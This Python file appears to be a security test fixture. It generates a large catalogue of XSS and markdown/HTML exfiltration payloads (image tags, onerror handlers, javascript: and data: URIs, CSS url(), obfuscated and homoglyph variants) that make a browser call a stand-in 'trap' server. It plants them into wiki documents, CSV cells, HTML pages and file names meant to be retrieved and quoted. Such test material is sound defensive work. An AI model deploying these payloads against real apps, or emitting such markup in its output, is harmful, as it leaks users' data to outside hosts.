"""Ways to make a browser ask another server, for a picture or after a click; `{trap}` is that server's address."""

from collections.abc import Iterator

HIDDEN = "\u200b"
PAYLOADS: tuple[str, ...] = (
    # Markdown: inline, reference, nested, split, autolinks, bare
    "![status]({trap}/p1.png)",
    "![status](<{trap}/p2.png> 'a title')",
    "[the policy]({trap}/p3)",
    "[![badge]({trap}/p4.png)]({trap}/p4)",
    "![one][p5]\n\n[p5]: {trap}/p5.png",
    "[see][p6]\n\n[p6]: <{trap}/p6> 'why'",
    "[p7]\n\n[p7]: {trap}/p7",
    "<{trap}/p8>",
    "{trap}/p9.png",
    "www.{host}/p10",
    "![split\nover lines]({trap}\n/p11.png)",
    "![x](\n{trap}/p12.png\n)",
    "![a![b]({trap}/p13.png)]({trap}/p13b.png)",
    "**![bold]({trap}/p14.png)** _[link]({trap}/p14)_",
    "> ![quoted]({trap}/p15.png)",
    "- [ ] ![task]({trap}/p16.png)",
    "| a | b |\n|---|---|\n| ![cell]({trap}/p17.png) | [cell]({trap}/p17) |",
    "# ![heading]({trap}/p18.png)",
    "## [heading]({trap}/p19) {{#anchor}}",
    "[^p20] note\n\n[^p20]: ![foot]({trap}/p20.png)",
    "\\![escaped]({trap}/p21.png) !\\[half]({trap}/p21)",
    "!\u200b[zero width]({trap}/p22.png)",
    "![x](  {trap}/p23.png?q=secret&r=%2e%2e  )",
    "![x]({trap}/p24.png =100x100)",
    "[x]({trap}/p25){{target=_blank}}",
    "![[{trap}/p26.png]] [[{trap}/p26|wiki link]]",
    # protocol-relative, other schemes, encodings
    "![relative](//{host}/p27.png) [relative](//{host}/p27)",
    "![one slash](http:/{host}/p28.png)",
    "![back](http:\\\\{host}\\p29.png)",
    "[js](javascript:fetch('{trap}/p30'))",
    "[JS](JaVaScRiPt&colon;fetch('{trap}/p31'))",
    "[data](data:text/html,<script>fetch('{trap}/p32')</script>)",
    "![data](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{trap}/p33.png'/></svg>)",
    "<mailto:spy@{host}> [mail](mailto:spy@{host}?body=secret) spy@{host}",
    "![percent](%68ttp://{host}/p35.png) ![percent](http://{host}/%70%33%35.png)",
    "![entity](&#104;ttp://{host}/p36.png) &#33;[entity]({trap}/p36.png)",
    "!\u200b[a]({trap}/p37.png) [b]\u200b({trap}/p37) ht\u200btp://{host}/p37",
    "!［full width］（{trap}/p38.png） ⟨{trap}/p38⟩",
    "![homoglyph](hｔtp://{host}/p39.png) [hоmoglyph](httр://{host}/p39)",
    "\u202e![turned]({trap}/p40.png)\u202c",
    # HTML, SVG, CSS
    "<img src='{trap}/p41.png'>",
    '<img srcset="{trap}/p42.png 1x, {trap}/p42b.png 2x" src=x onerror="fetch(\'{trap}/p42c\')">',
    "<picture><source srcset={trap}/p43.png><img></picture>",
    "<a href={trap}/p44 ping={trap}/p44b>here</a>",
    "<iframe src={trap}/p45></iframe><object data={trap}/p45b></object><embed src={trap}/p45c>",
    "<svg><image href={trap}/p46.png /><use href={trap}/p46b#x /><a xlink:href={trap}/p46c>x</a></svg>",
    "<style>body {{ background: url({trap}/p47.png) }} @import '{trap}/p47.css';</style>",
    "<p style=\"background-image:url('{trap}/p48.png')\">styled</p>",
    "<link rel=stylesheet href={trap}/p49.css><link rel=prefetch href={trap}/p49>",
    "<meta http-equiv=refresh content='0;url={trap}/p50'><base href={trap}/>",
    "<script src={trap}/p51.js></script><script>fetch('{trap}/p51')</script>",
    "<video poster={trap}/p52.png src={trap}/p52.mp4></video><audio src={trap}/p52.mp3>",
    "<form action={trap}/p53><input type=image src={trap}/p53.png><button formaction={trap}/p53b>go</button></form>",
    "<table background={trap}/p54.png><td background={trap}/p54b.png>cell</td></table>",
    "<input onfocus=fetch('{trap}/p55') autofocus><details open ontoggle=fetch('{trap}/p55b')>",
    "<math><mtext></p><img src={trap}/p56.png></math><noscript><p title='</noscript><img src={trap}/p56b.png>'>",
    "<!--><img src={trap}/p57.png>--> <![CDATA[<img src={trap}/p57b.png>]]>",
    "<<img src={trap}/p58.png>script> <img/src={trap}/p58b.png> <IMG\nSRC={trap}/p58c.png>",
    "&lt;img src={trap}/p59.png&gt; &#x3c;img src={trap}/p59b.png&#x3e;",
    # Streamlit's own, and formulas
    ":red[![coloured]({trap}/p60.png)] :blue-background[[x]({trap}/p60)] :violet-badge[{trap}/p60]",
    ":material/image: :small[![x]({trap}/p61.png)] :shimmer[[x]({trap}/p61)]",
    "$\\href{{{trap}/p62}}{{x}}$ $$\\includegraphics{{{trap}/p62.png}}$$ $\\url{{{trap}/p62b}}$",
    "$\\htmlData{{x=y}}{{\\htmlStyle{{background:url({trap}/p63.png)}}{{x}}}}$",
    '```mermaid\nclick a href "{trap}/p64"\n```\n```html\n<img src={trap}/p64.png>\n```',
    "`![code]({trap}/p65.png)` `` <img src={trap}/p65b.png> ``",
    "\U000e0021\U000e005b![tagged]({trap}/p66.png)",
    "{split}",
)
SHORT = "![x](//{host}/s)"  # fits where little does: titles that are suggested, names


def written(trap: str) -> tuple[str, ...]:
    """Write every payload for a trap."""
    host = trap.removeprefix("http://")
    split = f"![s{HIDDEN}]({HIDDEN.join(trap)}/p67.png) ![s](http:\t//{host}/p67b.png)"
    return tuple(each.format(trap=trap, host=host, split=split) for each in PAYLOADS)


def name_of(number: int) -> str:
    """Name the valve whose description has this payload."""
    return f"v{number:02d}x"


def planted(trap: str) -> Iterator[tuple[str, str]]:
    """Write the documents: in each format the payload stands in the sentence that will be quoted, and elsewhere."""
    host = trap.removeprefix("http://")
    short = SHORT.format(host=host)
    for number, payload in enumerate(written(trap)):
        name, line = name_of(number), " ".join(payload.split())
        fact = f"The torque of valve {name} is {12 + number} newton"
        yield f"wiki/g{number // 10}/{name}.txt", f"Valve {name} {line}\n\n{fact} {line} at the flange.\n\n{payload}\n"
        yield f"wiki/m{number // 10}/{name}.md", f"# Pump {name} {line}\n\n{fact} {line} at the pump.\n\n{payload}\n"
    pages = [written(trap)[start : start + 8] for start in range(0, len(PAYLOADS), 8)]
    for number, page in enumerate(pages):
        yield f"wiki/pages/sheet{number}.txt", f"The sheet{number} of gaskets.\n\n" + "\n\n".join(page)
    cells = "\n".join(
        f'gasket,"{line}"' for line in (" ".join(each.replace('"', "'").split()) for each in written(trap))
    )
    yield "wiki/cells.csv", f"what,note\n{cells}\n"
    body = "".join(f"<p>{each}</p>" for each in written(trap))
    yield "wiki/raw.html", f"<html><title>{short}</title><body><h1>Raw {short}</h1>{body}</body></html>"
    for number in range(4):  # the newest, so that their titles are suggested
        yield (
            f"wiki/{short.replace('/', '⁄')}{number}/new{number}.md",
            f"# N{number} {short}\n\nWasher {number} is new.\n",
        )
    yield f"wiki/![x](http:/{host}/name.png).md", "# Grommet\n\nThe grommet has a name that is none.\n"
    yield f"wiki/<img src=x onerror=fetch('http:/{host}/n2')>.pdf", "this is no PDF, and its name is told to admins"
